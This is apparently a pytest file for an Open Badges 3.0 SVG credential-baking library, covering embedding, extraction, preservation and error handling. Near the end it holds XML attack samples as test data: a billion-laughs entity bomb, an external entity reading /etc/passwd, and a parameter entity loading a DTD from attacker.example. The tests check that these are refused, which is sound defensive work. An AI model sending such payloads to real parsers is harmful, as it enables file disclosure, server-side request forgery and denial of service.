"""SVG baking: the OB 3.0 element as the spec shows it, preservation, and unsafe XML."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET

import pytest
from badge_images import compact_jws, make_svg, signed_credential

from vcbadge.bake import BakeLimits, bake, bake_svg, extract, image_kind, unbake
from vcbadge.bake.svg import OB3_NAMESPACE, extract_svg
from vcbadge.errors import BakingError

DECLARATION = f' xmlns:openbadges="{OB3_NAMESPACE}"'


def code_of(excinfo: pytest.ExceptionInfo[BakingError]) -> str:
    return excinfo.value.code


def test_json_round_trip_in_cdata_directly_after_the_root_tag():
    credential = signed_credential()
    original = make_svg()
    baked = bake_svg(original, credential)
    assert unbake(baked) == json.dumps(credential, ensure_ascii=False, separators=(",", ":"))
    root = ET.fromstring(baked)
    first = root[0]
    assert first.tag == f"{{{OB3_NAMESPACE}}}credential"
    assert "verify" not in first.attrib
    assert json.loads(first.text or "") == credential
    assert b"<openbadges:credential><![CDATA[{" in baked
    assert DECLARATION.encode() in baked.split(b">", 2)[1]  # on the <svg> start tag
    found = extract(baked)
    assert (found.version, found.format, found.image) == ("3.0", "json", "svg")


def test_jwt_goes_in_the_verify_attribute():
    token = compact_jws({"vc": signed_credential()})
    baked = bake(make_svg(), token)
    root = ET.fromstring(baked)
    assert root[0].attrib == {"verify": token}
    assert not (root[0].text or "").strip()
    assert unbake(baked) == token
    assert extract(baked).format == "jwt"


def test_the_rest_of_the_svg_is_kept_byte_for_byte():
    original = make_svg()
    baked = bake_svg(original, compact_jws({"n": 1}))
    element = baked[baked.index(b"<openbadges:credential") : baked.index(b"</svg>")]
    element = element[: element.index(b"</openbadges:credential>") + 24]
    assert baked.replace(element, b"", 1).replace(DECLARATION.encode(), b"", 1) == original


def test_cdata_end_marker_inside_the_credential_survives():
    credential = {"name": "tricky ]]> text ]]]]> and <b>&amp;</b>", "n": "\ufffe"}
    baked = bake_svg(make_svg(), credential)
    assert json.loads(unbake(baked)) == credential
    assert json.loads(ET.fromstring(baked)[0].text or "") == credential


def test_self_closing_root_and_existing_declaration_and_bom():
    original = b'\xef\xbb\xbf<svg xmlns="http://www.w3.org/2000/svg"/>'
    baked = bake_svg(original, compact_jws({"n": 1}))
    assert baked.startswith(b"\xef\xbb\xbf<svg ")
    assert baked.endswith(b"</svg>")
    assert unbake(baked) == compact_jws({"n": 1})
    declared = make_svg().replace(b"<svg ", b"<svg" + DECLARATION.encode() + b" ", 1)
    rebaked = bake_svg(declared, compact_jws({"n": 2}))
    assert rebaked.count(b"xmlns:openbadges") == 1


def test_prefixed_svg_root_is_closed_with_its_own_name():
    original = b'<s:svg xmlns:s="http://www.w3.org/2000/svg" width="1" />'
    baked = bake_svg(original, compact_jws({"n": 1}))
    assert baked.endswith(b"</s:svg>")
    assert unbake(baked) == compact_jws({"n": 1})


def test_already_baked_is_refused_unless_replace():
    once = bake_svg(make_svg(), signed_credential())
    with pytest.raises(BakingError) as excinfo:
        bake_svg(once, compact_jws({"n": 1}))
    assert code_of(excinfo) == "already_baked"
    twice = bake_svg(once, compact_jws({"n": 1}), replace=True)
    assert unbake(twice) == compact_jws({"n": 1})
    assert twice.count(b"<openbadges:credential") == 1
    assert twice.count(b"xmlns:openbadges") == 1


OB2_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
    "{element}<circle r='1'/></svg>"
)


@pytest.mark.parametrize(
    ("element", "expected_format"),
    [
        ('<openbadges:assertion verify="https://example.org/assertions/1"/>', "url"),
        (
            '<openbadges:assertion verify="eyJhbGciOiJSUzI1NiJ9.eyJ1aWQiOiIxIn0.c2ln">'
            "</openbadges:assertion>",
            "jwt",
        ),
        (
            '<openbadges:assertion><![CDATA[{"uid": "1", "type": "Assertion"}]]>'
            "</openbadges:assertion>",
            "json",
        ),
    ],
)
def test_open_badges_2_svgs_are_read_and_said_to_be_2_0(element, expected_format):
    image = OB2_SVG.format(element=element).encode()
    found = extract(image)
    assert (found.version, found.format, found.image) == ("2.0", expected_format, "svg")
    with pytest.raises(BakingError) as excinfo:
        unbake(image)
    assert code_of(excinfo) == "openbadges_2"
    with pytest.raises(BakingError) as excinfo:
        bake_svg(image, compact_jws({"n": 1}))
    assert code_of(excinfo) == "already_baked"
    # Replacing rebinds the prefix to the OB 3.0 namespace and drops the assertion.
    replaced = bake_svg(image, compact_jws({"n": 1}), replace=True)
    assert b"openbadges:assertion" not in replaced
    assert b"http://openbadges.org" not in replaced
    assert unbake(replaced) == compact_jws({"n": 1})
    assert replaced.endswith(b"<circle r='1'/></svg>")


def test_the_spec_example_shape_is_read():
    # The structure of the OB 3.0 specification's "well baked SVG with VC-JWT proof" example.
    example = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg"
  xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"
  viewBox="0 0 512 512">
  <openbadges:credential verify="header.payload.signature"></openbadges:credential>

  <!-- rest-of-image -->
</svg>"""
    assert image_kind(example) == "svg"
    assert unbake(example) == "header.payload.signature"


def test_two_credentials_are_refused():
    element = f'<openbadges:credential verify="{compact_jws({"n": 1})}"/>'
    doubled = make_svg(body=element * 2, **{"xmlns:openbadges": OB3_NAMESPACE})
    with pytest.raises(BakingError) as excinfo:
        unbake(doubled)
    assert code_of(excinfo) == "multiple_credentials"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize(
    "image",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_doctype_and_entities_are_refused_without_expansion_or_network(image):
    assert image_kind(image) == "svg"
    for operation in (extract, lambda data: bake(data, compact_jws({"n": 1}))):
        with pytest.raises(BakingError) as excinfo:
            operation(image)
        assert code_of(excinfo) == "svg_unsafe"
        assert "DOCTYPE" in str(excinfo.value)


@pytest.mark.parametrize(
    ("image", "code"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "svg_malformed"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>&undefined;</svg>", "svg_malformed"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><x:y/></svg>", "svg_malformed"),
        (b"<svg><circle/></svg>", "not_an_image"),  # no SVG namespace
        (b"<html><svg xmlns='http://www.w3.org/2000/svg'/></html>", "not_an_image"),
        (
            b"<?xml version='1.0' encoding='ISO-8859-1'?><svg xmlns='http://www.w3.org/2000/svg'/>",
            "svg_encoding",
        ),
        ("<svg xmlns='http://www.w3.org/2000/svg'/>".encode("utf-16"), "svg_encoding"),
        (make_svg(), "no_credential"),
    ],
)
def test_malformed_svgs_are_clear_errors(image, code):
    with pytest.raises(BakingError) as excinfo:
        extract_svg(image)
    assert code_of(excinfo) == code
    assert str(excinfo.value)


def test_syntax_errors_say_where():
    with pytest.raises(BakingError) as excinfo:
        extract_svg(b"<svg xmlns='http://www.w3.org/2000/svg'>\n<g>\n</svg>")
    assert "line 3" in str(excinfo.value)


@pytest.mark.parametrize(
    "element",
    [
        "<openbadges:credential></openbadges:credential>",
        "<openbadges:credential>  </openbadges:credential>",
        "<openbadges:credential>https://example.org/c/1</openbadges:credential>",
        '<openbadges:credential verify="not a jws"/>',
        '<openbadges:credential verify="a.b.c">{"x": 1}</openbadges:credential>',
        "<openbadges:credential><g/>{}</openbadges:credential>",
    ],
)
def test_unusable_credential_elements_are_invalid_payload(element):
    image = make_svg(body=element, **{"xmlns:openbadges": OB3_NAMESPACE})
    with pytest.raises(BakingError) as excinfo:
        unbake(image)
    assert code_of(excinfo) == "invalid_payload"


def test_json_in_plain_text_instead_of_cdata_is_read():
    element = '<openbadges:credential>{"a": "&lt;b&gt;"}</openbadges:credential>'
    image = make_svg(body=element, **{"xmlns:openbadges": OB3_NAMESPACE})
    assert unbake(image) == '{"a": "<b>"}'


def test_a_conflicting_openbadges_prefix_is_refused():
    image = make_svg(**{"xmlns:openbadges": "https://example.org/other"})
    with pytest.raises(BakingError) as excinfo:
        bake_svg(image, compact_jws({"n": 1}))
    assert code_of(excinfo) == "svg_namespace_conflict"


def test_limits():
    image = bake_svg(make_svg(), signed_credential())
    with pytest.raises(BakingError) as excinfo:
        extract(image, limits=BakeLimits(max_image_bytes=len(image) - 1))
    assert code_of(excinfo) == "too_large"
    with pytest.raises(BakingError) as excinfo:
        extract(image, limits=BakeLimits(max_payload_bytes=100))
    assert code_of(excinfo) == "too_large"
    with pytest.raises(BakingError) as excinfo:
        bake_svg(make_svg(), signed_credential(), limits=BakeLimits(max_image_bytes=600))
    assert code_of(excinfo) == "too_large"


def test_public_doctype_without_internal_subset_is_accepted_and_never_loaded():
    # Editors still write the SVG 1.1 public DOCTYPE; it declares nothing itself, and the DTD it
    # names is never fetched (the folder's no_network fixture would fail the test if it were).
    token = compact_jws({"n": 1})
    baked = bake(EXTERNAL_DTD, token)
    assert baked.startswith(EXTERNAL_DTD.split(b"<svg")[0])
    assert unbake(baked) == token


def test_entity_from_an_unloaded_external_dtd_is_skipped_not_fetched():
    # With an external subset that is not read, XML lets the parser skip an undeclared entity:
    # nothing is fetched and nothing expands; the image simply carries no credential yet.
    image = EXTERNAL_DTD.replace(b"/>", b"><text>&nbsp;</text></svg>")
    with pytest.raises(BakingError) as excinfo:
        extract(image)
    assert code_of(excinfo) == "no_credential"
    token = compact_jws({"n": 2})
    assert unbake(bake(image, token)) == token
